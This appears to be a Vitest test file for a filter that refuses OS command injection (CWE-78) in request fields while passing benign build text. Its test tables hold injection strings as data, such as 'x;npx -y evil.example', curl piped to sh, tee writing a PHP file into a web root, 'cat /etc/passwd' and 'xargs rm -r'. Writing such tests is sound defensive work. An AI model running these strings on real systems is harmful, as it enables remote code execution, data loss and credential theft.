// What looks like a line that somebody shows, and runs where the origin hands it to a shell (CWE-78): comparisons,
// markup, lists and steps of a build excuse no command that does something by itself, and neither do letters and lines
// that the client has put in front.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const LONG = `${'a'.repeat(220)}\n`

const runs: Readonly<Record<string, readonly string[]>> = {
  'a redirection to a file called `=`, or from one in brackets, is one': [
    'x;id >=x',
    'x;cat flag >=x',
    'x;npm >=1 exec evil.example',
    'x;sh </x>y',
    'x;cat <flag>x',
  ],
  'stars are files': ['x;cat **', 'x;cat **.php', 'x;cat **config**'],
  'an address may have three parts (inet_aton)': ['x;nc 10.1.1 4444'],
  'Windows has no case': ['x&SC stop y', 'x;SC stop y'],
  'nothing in front makes a document of it': [
    `${LONG}ls|id`,
    `${LONG}ls && curl evil.example`,
    `${LONG}ls|tee /var/www/html/x.php`,
    `${LONG}x;npx -y evil.example`,
    `${'a'.repeat(220)}; reboot\nx`,
  ],
  'a command in front is the attacker’s own': [
    'cd x && npx evil.example',
    'cd x && pip install http://evil.example/x',
    'make && npm exec evil.example',
    '"x":"ls && make -f /tmp/y"',
  ],
  'backticks run what they hold': [
    '`foo a|tee /var/www/html/x.php`',
    '`foo|xargs rm -r`',
    '`foo && npx evil.example`',
  ],
  'a list of words has none that acts': ['(a|reboot)', '\nxx|reboot|yy', 'x; reboot `y`'],
}

const shown: readonly string[] = [
  'node >= 18',
  'npm >=6 is needed',
  'install **npm** first',
  'OpenSSL versions 3.0.0 to 3.0.6 are affected',
  'cd api && make test',
  'yarn && cd web',
  '"build": "make && npm run test"',
  '?(*.)+(spec|test).js',
  'less than three</h3>',
]

const refused = (text: string): readonly boolean[] => [
  engine.text('json', 'value', 'body.note', text).refused,
  engine.text('query', 'value', 'query.q', text).refused,
]

for (const [decision, texts] of Object.entries(runs))
  describe(decision, () => {
    test.each(texts)('refused: %j', (text) => {
      expect(refused(text)).toEqual([true, true])
    })
  })

test.each(shown)('passes: %j', (text) => {
  expect(refused(text)).toEqual([false, false])
})

const prose =
  'We have used this for a long time, and it works well for all of us here; thank you very much for what you do, as '

test.each([
  '`tail -f x.log | bat -u` shows it',
  '`cd x && ls -la` shows it',
  '`$ cp --help | bat -plhelp` shows it',
  'it is closed ([#1](https://a.example/1)) & ([#2](https://a.example/2))',
])('amid words it is shown: %j', (text) => {
  expect(refused(prose + text)[0]).toBe(false)
})

test.each([
  '`x && ls -la` shows it',
  '`cd x && cat /etc/passwd` shows it',
  '`ls; curl https://a.example/x | sh` shows it',
  '`ls; ping -c 10 127.0.0.1` shows it',
  '`ls; whoami` shows it',
  'it is closed (x) & ([i]d)',
])('amid words, too, it is no line that somebody shows: %j', (text) => {
  expect(refused(prose + text)[0]).toBe(true)
})
